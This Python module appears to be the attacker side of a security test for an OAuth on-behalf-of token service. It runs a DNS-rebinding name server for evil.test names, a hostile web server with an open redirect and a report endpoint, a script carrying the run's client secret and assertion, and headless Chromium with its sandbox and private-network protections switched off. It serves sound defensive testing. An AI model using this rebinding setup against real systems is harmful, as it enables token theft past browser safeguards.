"""The attacker of browser_attack.py: a name server whose answers turn, a web server with hostile pages, a browser."""
import glob
import http.server
import json
import os
import shutil
import socket
import socketserver
import struct
import subprocess
import tempfile
import threading
import time
import urllib.parse
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
ADDRESS = "203.0.113.10"  # of the attacker (TEST-NET-3), on the only interface of this namespace


class Names:
    """Answers every name under evil.test with the attacker's address, time to live 0; turned names with what they are
    turned to."""

    def __init__(self, address=("127.0.0.53", 53)):
        self.turned = {}  # name -> address
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(address)
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            query, whence = self.socket.recvfrom(4096)
            try:
                self.socket.sendto(self.answer(query), whence)
            except (struct.error, IndexError, OSError):
                pass

    def answer(self, query):
        at, labels = 12, []
        while query[at]:
            labels.append(query[at + 1 : at + 1 + query[at]].decode("latin-1").lower())
            at += 1 + query[at]
        (kind,) = struct.unpack(">H", query[at + 1 : at + 3])
        name = ".".join(labels)
        address = self.turned.get(name, ADDRESS)
        family = 28 if ":" in address else 1
        found = name.endswith("evil.test") and kind == family
        head = query[:2] + struct.pack(">HHHHH", 0x8180 if name.endswith("evil.test") else 0x8183, 1, int(found), 0, 0)
        answer = head + query[12 : at + 5]
        if found:
            data = socket.inet_pton(socket.AF_INET6 if family == 28 else socket.AF_INET, address)
            answer += struct.pack(">HHHLH", 0xC00C, kind, 1, 0, len(data)) + data
        return answer


class Pages:
    """The attacker's web server on one port of his address. `kinds`: path -> (kind, bases) of the page there."""

    def __init__(self, port, names, script, reported):
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *_):
                pass

            def send(self, status, body=b"", **headers):
                self.send_response(status)
                for name, value in {
                    "Content-Length": str(len(body)),
                    "Cache-Control": "no-store",
                    "Connection": "close",
                    **headers,
                }.items():
                    self.send_header(name.replace("_", "-"), value)
                self.end_headers()
                self.wfile.write(body)
                self.close_connection = True

            def do_GET(self):
                host = self.headers.get("Host", "").split(":")[0]
                path, _, query = self.path.partition("?")
                if path == "/marked":
                    self.send(200, MARK.encode())
                elif path == "/flip":
                    names.turned[host] = outer.turns[host]
                    self.send(204)
                elif path in outer.kinds:
                    self.send(200, page(script, *outer.kinds[path], outer.report).encode(), Content_Type="text/html")
                else:
                    self.send(404)

            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                path, _, query = self.path.partition("?")
                if path == "/report":
                    reported(json.loads(body))
                    self.send(204)
                elif path == "/to":
                    self.send(307, Location=urllib.parse.unquote(query), Access_Control_Allow_Origin="*")
                else:
                    self.send(404)

        class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
            daemon_threads = True

        self.kinds, self.turns = {}, {}
        self.server = Server((ADDRESS, port), Handler)
        self.port = self.server.server_port
        self.report = f"http://report.evil.test:{self.port}/report"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


MARK = "still-the-attacker"


def page(script, kind, bases, report):
    """HTML of one hostile page."""
    whole = f"const REPORT={json.dumps(report)}, KIND={json.dumps(kind)}, MARK={json.dumps(MARK)};\n{script}"
    known = f"const SCRIPT={json.dumps(whole)};\n".replace("</", "<\\/")
    return (
        f"<!doctype html><meta charset=utf-8><body></body><script>{whole}\n{known}"
        f"whole({json.dumps(kind.split(' ')[0])}, {json.dumps(bases)});</script>"
    )


def attack_script(said):
    """attack_page.js with all that an attacker could know at worst: also the run's own secrets."""
    values = {
        "FIELDS": {
            "grant_type": "urn:ietf:params:oauth:grant-type:jwt-bearer",
            "client_id": said["client"]["client_id"],
            "client_secret": said["client"]["client_secret"],
            "assertion": said["assertion"],
            "scope": said["graph"]["scope"],
            "requested_token_use": "on_behalf_of",
        },
        "TOKEN": f"/{said['tenant']}/oauth2/v2.0/token",
        "KEYS": f"/{said['tenant']}/discovery/v2.0/keys",
        "CONTROL": urllib.parse.urlsplit(said["control"]).path,
    }
    with open(f"{HERE}/attack_page.js", encoding="utf-8") as file:
        return "".join(f"const {name} = {json.dumps(value)};\n" for name, value in values.items()) + file.read()


class Browser:
    """Chromium without a window and without what it would itself hold back: the practice authority stands alone."""

    def __init__(self):
        self.folder = tempfile.mkdtemp(prefix="obo-browser-")
        off = (
            "LocalNetworkAccessChecks,LocalNetworkAccessChecksWarn,BlockInsecurePrivateNetworkRequests,"
            "PrivateNetworkAccessSendPreflights,HttpsUpgrades,HttpsFirstBalancedModeAutoEnable"
        )
        self.process = subprocess.Popen(
            [
                "chromium",
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--no-first-run",
                "--disable-dev-shm-usage",
                "--remote-debugging-port=0",
                "--ignore-certificate-errors",
                "--disable-popup-blocking",
                "--disable-background-networking",
                "--disable-background-timer-throttling",
                "--disable-renderer-backgrounding",
                "--disable-backgrounding-occluded-windows",
                f"--disable-features={off}",
                f"--user-data-dir={self.folder}/data",
                "about:blank",
            ],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
            env={**os.environ, "HOME": self.folder, "DBUS_SESSION_BUS_ADDRESS": ""},
        )

    def open(self, url, seconds=120):
        """In a tab of its own, through the port that the browser wrote down."""
        until, port = time.monotonic() + seconds, None
        while port is None and time.monotonic() < until and self.process.poll() is None:
            try:
                with open(f"{self.folder}/data/DevToolsActivePort", encoding="ascii") as file:
                    port = file.readline().strip() or None
            except OSError:
                time.sleep(0.05)
        asked = urllib.request.Request(f"http://127.0.0.1:{port}/json/new?{urllib.parse.quote(url, safe='')}", method="PUT")
        with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(asked, timeout=60) as answer:
            return json.load(answer)["id"]

    def close(self):
        try:
            os.killpg(self.process.pid, 15)
            self.process.wait(20)
        except (ProcessLookupError, subprocess.TimeoutExpired):
            os.killpg(self.process.pid, 9)
        for _ in range(20):  # its children write until they end
            shutil.rmtree(self.folder, ignore_errors=True)
            if not glob.glob(self.folder):
                break
            time.sleep(0.1)
